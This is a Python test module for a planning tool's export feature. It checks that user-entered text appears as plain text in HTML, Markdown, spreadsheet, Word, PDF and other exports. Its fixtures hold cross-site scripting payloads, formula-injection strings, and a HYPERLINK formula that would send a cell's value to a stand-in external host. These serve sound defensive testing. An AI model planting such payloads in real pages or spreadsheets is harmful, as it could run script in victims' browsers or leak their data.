"""What users typed reaches every export as text: no script, image, link or formula comes alive."""

import io
import json
import re
import zipfile

import export_readers
import pytest
import yaml

from tpt_model.catalogue.catalogue import Catalogue
from tpt_model.catalogue.scenario_format import JourneyPoint, Placement, Scenario
from tpt_model.evaluation.sheets import ScoreSheet
from tpt_model.export.formats import FORMATS, Export, export

SCRIPT = "<script>alert('nom')</script>"
IMG = '<img src=x onerror="alert(1)">'
MD_IMAGE = "![pixel](https://exemple.invalid/p.png)"
MD_LINK = "[cliquez](javascript:alert(1))"
HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1,"Cliquez")'
SUM = "@SUM(A1:A9)"
MINUS = "-1+1"
WORKSHOP_TEXT = '=HYPERLINK("https://exemple.invalid/atelier","Il manque")'
PASTED = "Collé\x07 depuis Word"  # a control character that breaks DOCX and XLSX writers


def point(stage: str, month: int) -> JourneyPoint:
    return JourneyPoint(stage=stage, month=month)


@pytest.fixture(scope="module")
def hostile(test_catalogue: Catalogue) -> Export:
    scenario = Scenario(
        name=f"Groupe {SCRIPT}",
        description=f"{IMG} {MD_IMAGE} {PASTED}",
        working_group="gt1",
        placements=(
            Placement(
                brick="atelier-classe", start=point("seconde", 10), end=point("seconde", 10), note=HYPERLINK
            ),
            Placement(
                brick="mentorat",
                start=point("terminale", 1),
                end=point("bac-1", 6),
                note=f"{MD_LINK} {PASTED}",
                lane=SUM,
            ),
            Placement(brick="ordinateur", start=point("bac-1", 9), end=point("bac-1", 9), note=MINUS),
        ),
    )
    sheets = [
        ScoreSheet(brick="mentorat", evaluator=SUM, scores={"pertinence": 4}, comment=IMG),
        ScoreSheet(brick="mentorat", evaluator=HYPERLINK, scores={"pertinence": 1}, comment=MD_LINK),
    ]
    workshops = export_readers.workshop_reports(
        test_catalogue, scenario, title=f"Atelier {IMG}", missing=WORKSHOP_TEXT
    )
    source = export_readers.scored_source(
        test_catalogue, scenario, sheets=sheets, author=SUM, workshops=workshops
    )
    return export(source, FORMATS)


def data(done: Export, extension: str) -> bytes:
    return next(f.data for f in done.files if f.name.endswith(f".{extension}"))


def test_html_shows_the_text_and_runs_nothing(hostile: Export) -> None:
    tags, text = export_readers.html_parts(data(hostile, "html"))
    assert not [t for t, _ in tags if t in ("script", "iframe", "object", "embed")]
    assert not [a for t, a in tags if any(name.startswith("on") for name in a)]
    assert not [a for t, a in tags if t == "a" and (a.get("href") or "").startswith("javascript")]
    assert all(
        src and src.startswith("data:image/svg+xml") for t, a in tags if t == "img" for src in [a.get("src")]
    )
    for typed in (SCRIPT, IMG, MD_IMAGE, MD_LINK, HYPERLINK, SUM, MINUS):
        assert typed in text, typed


def test_the_html_figures_hold_the_names_as_text(hostile: Export) -> None:
    # The frise's title is the scenario's name: inside the embedded SVG it is text, never an element.
    import base64

    html = data(hostile, "html").decode("utf-8")
    frise = base64.b64decode(re.findall(r'base64,([^"]+)', html)[0])
    root = export_readers.svg_root(frise)
    assert not [e for e in root.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")]
    assert f"Groupe {SCRIPT}" in export_readers.svg_text(frise)


def unescape_markdown(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def test_markdown_escapes_markup_links_and_html(hostile: Export) -> None:
    text = data(hostile, "md").decode("utf-8")
    # Each markup sign that users typed is preceded by a backslash: it shows, it does nothing.
    for live in (r"<script", r"<img", r"!\[", r"\]\(javascript", r"\]\(https"):
        assert not re.search(r"(?<!\\)" + live, text), live
    shown = unescape_markdown(text)
    for typed in (SCRIPT, IMG, MD_IMAGE, MD_LINK, HYPERLINK, SUM, MINUS):
        assert typed in shown, typed


def test_xlsx_cells_show_formulas_as_typed_text(hostile: Export) -> None:
    sheets = export_readers.xlsx_cells(data(hostile, "xlsx"))
    cells = [c for rows in sheets.values() for row in rows for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for typed in (HYPERLINK, SUM, MINUS, f"Groupe {SCRIPT}"):
        found = [c for c in cells if c.value == typed]
        assert found, typed  # as typed: no apostrophe added
        assert all(c.data_type == "s" for c in found)
    assert any("Collé depuis Word" in str(c.value) for c in cells)  # the control character is gone


def test_docx_pptx_and_pdf_show_the_text(hostile: Export) -> None:
    word = export_readers.docx_text(data(hostile, "docx"))
    for typed in (SCRIPT, IMG, MD_LINK, HYPERLINK, SUM, MINUS, "Collé depuis Word"):
        assert typed in word, typed
    assert f"Groupe {SCRIPT}" in export_readers.pptx_text(data(hostile, "pptx"))[0]
    assert f"Groupe {SCRIPT}" in export_readers.pdf_text(data(hostile, "pdf"))


def test_json_yaml_and_svg_keep_the_text_exactly(hostile: Export) -> None:
    document = json.loads(data(hostile, "json"))
    assert document["cover"]["scenario"] == f"Groupe {SCRIPT}"
    assert yaml.safe_load(data(hostile, "yaml"))["placements"][0]["note"] == HYPERLINK
    assert f"Groupe {SCRIPT}" in export_readers.svg_text(data(hostile, "svg"))
    with zipfile.ZipFile(io.BytesIO(hostile.zip().data)) as archive:
        assert len(archive.namelist()) == len(FORMATS)


def test_workshop_titles_and_answers_show_as_typed_and_run_nothing(hostile: Export) -> None:
    title = f"Focus group « Atelier {IMG} »"
    assert title in unescape_markdown(data(hostile, "md").decode("utf-8"))
    _, text = export_readers.html_parts(data(hostile, "html"))
    assert title in text and WORKSHOP_TEXT in text
    word = export_readers.docx_text(data(hostile, "docx"))
    assert title in word and WORKSHOP_TEXT in word
    cells = [c for rows in export_readers.xlsx_cells(data(hostile, "xlsx")).values() for r in rows for c in r]
    answers = [c for c in cells if c.value == WORKSHOP_TEXT]
    assert answers and all(c.data_type == "s" for c in answers)
    assert title in export_readers.pdf_text(data(hostile, "pdf"))
